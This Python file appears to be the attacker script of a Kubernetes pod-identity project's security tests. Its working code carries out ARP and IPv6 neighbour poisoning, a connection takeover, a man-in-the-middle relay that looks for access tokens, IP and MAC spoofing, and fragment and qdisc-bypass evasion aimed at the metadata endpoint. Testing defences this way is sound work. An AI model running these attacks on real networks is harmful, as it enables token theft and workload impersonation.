# SPDX-License-Identifier: Apache-2.0
"""The attacker of the attack tests, run inside a simulated pod (or a hostNetwork pod) with containerd's default
capabilities: every attack of issue 12 made of hand-made frames (podid_harness.sim.frames). Each command prints
one JSON line saying what came back.

    python3 attacker.py frames-to-target --iface eth0 --gw-mac M --src S --dst 169.254.169.254 --dport 80
    python3 attacker.py handshake --iface eth0 --gw-mac M --src S [--claim] --dst D --dport P --path /x
    python3 attacker.py arp-poison --iface eth0 --victim-ip V --target-ip T --target-mac M [--count N]
    python3 attacker.py arp-takeover --iface eth0 --gw-mac M --victim-ip V --agent A --port P --seconds S --path /x
    python3 attacker.py arp-mitm --iface eth0 --gw-mac M --gateway-ip G --victim-ip V --victim-mac M2 --seconds S
    python3 attacker.py nd-poison --iface eth0 --victim-ip6 V --target-ip6 T --target-mac M [--count N]
    python3 attacker.py spoof-syn --iface eth0 --gw-mac M --src V --sport P --dst A --dport P --path /x
    python3 attacker.py mac-spoof --iface eth0 --gw-mac M --src S --dst D --dport P
    python3 attacker.py qdisc-bypass --iface eth0 / xdp-socket
"""
from __future__ import annotations

import argparse
import errno
import json
import socket
import sys
import time
from pathlib import Path

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from podid_harness.sim import frames as fr  # noqa: E402

HTTP = "GET {path} HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n"


def _out(**result) -> int:
    print(json.dumps(result, default=lambda b: b.decode("latin-1") if isinstance(b, bytes) else str(b)),
          flush=True)
    return 0


def _http(response: bytes) -> dict:
    head, _, body = response.partition(b"\r\n\r\n")
    line = head.split(b"\r\n", 1)[0].split()
    status = int(line[1]) if len(line) > 1 and line[1].isdigit() else None
    return {"status": status, "body": body.decode("latin-1")}


def frames_to_target(a) -> int:
    """The target reached every way a packet socket or raw IP socket allows, one frame each; what the kernel
    said to each send (a frame dropped on the pod's own host is invisible from here: the tests look in the
    fabric)."""
    sock = fr.PacketSocket(a.iface)
    gw = fr.mac(a.gw_mac)
    syn = fr.tcp(a.src, a.dst, a.sport, a.dport, 1, 0, fr.TCP_SYN)
    sent = {
        "packet_raw_tcp": sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 6, syn))),
        "packet_dgram_tcp": fr.send_dgram(a.iface, gw, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 6, syn, ident=2)),
    }
    if not a.only_tcp:
        udp = fr.udp(a.src, a.dst, a.sport, a.dport, b"x")
        sent["packet_raw_udp"] = sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 17, udp)))
        # The same SYN in two fragments: the first carries the ports, the second nothing to match a port on.
        sent["packet_raw_fragments"] = sock.send(fr.ethernet(
            gw, sock.mac, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 6, syn[:8], ident=3, more_fragments=True))) or \
            sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 6, syn[8:], ident=3, frag_offset=8)))
        # An IPv6 frame to the NAT64 form of the target (a translator on the path would deliver it).
        nat64 = "64:ff9b::" + a.dst
        sent["packet_raw_nat64"] = sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_IPV6, fr.ipv6(
            a.src6, nat64, 6, fr.tcp(a.src6, nat64, a.sport, a.dport, 1, 0, fr.TCP_SYN))))
    if a.qdisc_bypass:
        bypass = fr.PacketSocket(a.iface, qdisc_bypass=True)
        sent["packet_qdisc_bypass"] = bypass.send(fr.ethernet(gw, sock.mac, fr.ETH_P_IP, fr.ipv4(a.src, a.dst, 6, syn)))
    try:
        sent["raw_ip"] = fr.send_raw_ip(fr.ipv4(a.src, a.dst, 6, syn, ident=4), a.dst)
    except PermissionError as e:
        sent["raw_ip"] = e.errno
    return _out(sent={k: (errno.errorcode.get(v, v) if v else None) for k, v in sent.items()})


def handshake(a) -> int:
    """A whole TCP exchange in frames from `src` (claimed first by gratuitous ARP if --claim), to see whether
    anything answers."""
    sock = fr.PacketSocket(a.iface)
    if a.claim:
        for _ in range(3):
            sock.send(fr.ethernet(fr.BROADCAST, sock.mac, fr.ETH_P_ARP,
                                  fr.arp(2, sock.mac, a.src, fr.BROADCAST, a.src)))
    client = fr.RawTcpClient(sock, sock.mac, fr.mac(a.gw_mac), a.src, a.sport, a.dst, a.dport)
    r = client.request(HTTP.format(path=a.path).encode(), timeout=a.timeout)
    return _out(syn_ack=r["syn_ack"], **_http(r["response"]))


def arp_poison(a) -> int:
    """Tell `target` (the node's bridge address, another pod) that the victim's address is at our MAC."""
    sock = fr.PacketSocket(a.iface)
    errs = []
    for _ in range(a.count):
        for op in (1, 2):  # a request and a reply: Linux learns from both
            frame = fr.ethernet(fr.mac(a.target_mac), sock.mac, fr.ETH_P_ARP,
                                fr.arp(op, sock.mac, a.victim_ip, fr.mac(a.target_mac) if op == 2 else b"\0" * 6,
                                       a.target_ip))
            errs.append(sock.send(frame))
        time.sleep(a.interval)
    return _out(sent=len(errs), errors=[e for e in errs if e])


def poison_node(sock, gw: bytes, victim_ip: str, gateway_ip: str) -> None:
    """Tell the node (at the gateway's MAC) that the victim's address is ours: a request creates the node's entry
    if it has none, a reply overrides one that exists."""
    sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(1, sock.mac, victim_ip, b"\0" * 6, gateway_ip)))
    sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(2, sock.mac, victim_ip, gw, gateway_ip)))


def arp_takeover(a) -> int:
    """Issue 12's attack 1: keep poisoning the node's entry for the victim, watch for the agent's SYN-ACK to the
    victim's redirected connection, and finish that handshake as the victim with a request of our own."""
    sock = fr.PacketSocket(a.iface)
    gw = fr.mac(a.gw_mac)
    deadline = time.monotonic() + a.seconds
    next_poison = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() >= next_poison:
            poison_node(sock, gw, a.victim_ip, a.gateway_ip)
            next_poison = time.monotonic() + 0.05
        for f in sock.frames(min(deadline, time.monotonic() + 0.05)):
            if (f.ethertype == fr.ETH_P_IP and f.proto == 6 and f.src == a.agent and f.sport == a.port
                    and f.dst == a.victim_ip and f.tcp_flags & (fr.TCP_SYN | fr.TCP_ACK) == fr.TCP_SYN | fr.TCP_ACK):
                client = fr.RawTcpClient(sock, sock.mac, gw, a.victim_ip, f.dport, a.agent, a.port)
                r = client.complete(f, HTTP.format(path=a.path).encode())
                return _out(saw_syn_ack=True, **_http(r["response"]))
    return _out(saw_syn_ack=False, status=None, body="")


def arp_mitm(a) -> int:
    """Issue 12's attack 2: poison both ends (the node: the victim is at our MAC; the victim: the gateway is at
    our MAC), pass every frame on so the victim notices nothing, and read what goes by. Reports whether any
    frame carried `marker` (an access token's JSON key)."""
    sock = fr.PacketSocket(a.iface)
    gw, victim_mac = fr.mac(a.gw_mac), fr.mac(a.victim_mac)
    marker = a.marker.encode()
    seen = relayed = 0
    deadline = time.monotonic() + a.seconds
    next_poison = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() >= next_poison:
            poison_node(sock, gw, a.victim_ip, a.gateway_ip)
            sock.send(fr.ethernet(victim_mac, sock.mac, fr.ETH_P_ARP,
                                  fr.arp(2, sock.mac, a.gateway_ip, victim_mac, a.victim_ip)))
            next_poison = time.monotonic() + 0.05
        for f in sock.frames(min(deadline, time.monotonic() + 0.05)):
            if f.dst_mac != sock.mac or f.ethertype != fr.ETH_P_IP:
                continue
            seen += marker in f.raw
            # Pass it on to where it was going, so the victim keeps working.
            to = victim_mac if f.dst == a.victim_ip else gw if f.src == a.victim_ip else None
            if to is not None:
                sock.send(to + sock.mac + f.raw[12:])
                relayed += 1
    return _out(frames_with_marker=seen, relayed=relayed)


def nd_poison(a) -> int:
    """The IPv6 form: unsolicited neighbour advertisements claiming the victim's address for our MAC."""
    sock = fr.PacketSocket(a.iface)
    errs = []
    for _ in range(a.count):
        for src in (a.victim_ip6, a.own_ip6):
            na = fr.neighbour_advert(src, "ff02::1", a.victim_ip6, sock.mac)
            errs.append(sock.send(fr.ethernet(fr.multicast_mac("ff02::1"), sock.mac, fr.ETH_P_IPV6, na)))
            na = fr.neighbour_advert(src, a.target_ip6, a.victim_ip6, sock.mac, solicited=True)
            errs.append(sock.send(fr.ethernet(fr.mac(a.target_mac), sock.mac, fr.ETH_P_IPV6, na)))
        time.sleep(a.interval)
    return _out(sent=len(errs), errors=[e for e in errs if e])


def spoof_syn(a) -> int:
    """A connection to the agent from a neighbour's address and port: does a SYN-ACK ever come back to us?"""
    sock = fr.PacketSocket(a.iface)
    client = fr.RawTcpClient(sock, sock.mac, fr.mac(a.gw_mac), a.src, a.sport, a.dst, a.dport)
    r = client.request(HTTP.format(path=a.path).encode(), timeout=a.timeout)
    return _out(syn_ack=r["syn_ack"], **_http(r["response"]))


def mac_spoof(a) -> int:
    """A frame from our own address but another Ethernet source, to a listener that answers if it gets it."""
    sock = fr.PacketSocket(a.iface)
    fake = fr.mac("02:de:ad:be:ef:01")
    client = fr.RawTcpClient(sock, fake, fr.mac(a.gw_mac), a.src, a.sport, a.dst, a.dport)
    r = client.request(b"x", timeout=a.timeout)
    return _out(syn_ack=r["syn_ack"])


def qdisc_bypass(a) -> int:
    try:
        fr.PacketSocket(a.iface, qdisc_bypass=True)
        return _out(refused=False)
    except OSError as e:
        return _out(refused=True, errno=errno.errorcode.get(e.errno, e.errno))


def xdp_socket(a) -> int:
    """AF_XDP: its transmit path skips tc like PACKET_QDISC_BYPASS. Setting up its memory is the first step."""
    try:
        s = socket.socket(44, socket.SOCK_RAW, 0)  # AF_XDP
    except OSError as e:
        return _out(refused=True, stage="socket", errno=errno.errorcode.get(e.errno, e.errno))
    try:
        s.setsockopt(283, 4, b"\0" * 32)  # SOL_XDP, XDP_UMEM_REG with an empty region
        return _out(refused=False)
    except OSError as e:
        return _out(refused=e.errno == errno.EPERM, stage="setsockopt", errno=errno.errorcode.get(e.errno, e.errno))


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)

    def cmd(name, fn, *args):
        c = sub.add_parser(name)
        c.set_defaults(fn=fn)
        c.add_argument("--iface", default="eth0")
        for arg in args:
            c.add_argument(f"--{arg}", **({"type": int} if arg in ("sport", "dport", "port", "count") else
                                          {"type": float} if arg in ("seconds", "interval", "timeout") else {}))
        return c

    c = cmd("frames-to-target", frames_to_target, "gw-mac", "src", "src6", "dst", "sport", "dport")
    c.add_argument("--qdisc-bypass", action="store_true")
    c.add_argument("--only-tcp", action="store_true", help="TCP SYNs only (for targets denied on TCP alone)")
    c = cmd("handshake", handshake, "gw-mac", "src", "sport", "dst", "dport", "path", "timeout")
    c.add_argument("--claim", action="store_true")
    cmd("arp-poison", arp_poison, "victim-ip", "target-ip", "target-mac", "count", "interval")
    cmd("arp-takeover", arp_takeover, "gw-mac", "gateway-ip", "victim-ip", "agent", "port", "seconds", "path")
    c = cmd("arp-mitm", arp_mitm, "gw-mac", "gateway-ip", "victim-ip", "victim-mac", "seconds")
    c.add_argument("--marker", default="access_token")
    cmd("nd-poison", nd_poison, "victim-ip6", "own-ip6", "target-ip6", "target-mac", "count", "interval")
    cmd("spoof-syn", spoof_syn, "gw-mac", "src", "sport", "dst", "dport", "path", "timeout")
    cmd("mac-spoof", mac_spoof, "gw-mac", "src", "sport", "dst", "dport", "timeout")
    cmd("qdisc-bypass", qdisc_bypass)
    cmd("xdp-socket", xdp_socket)
    defaults = {"sport": 40000, "count": 5, "interval": 0.02, "timeout": 2.0, "path": "/podid/v1/whoami",
                "seconds": 5.0, "src6": "fe80::1"}
    p.set_defaults(**defaults)
    args = p.parse_args(argv)
    for k, v in defaults.items():
        if getattr(args, k, None) is None:
            setattr(args, k, v)
    return args.fn(args)


if __name__ == "__main__":
    sys.exit(main())
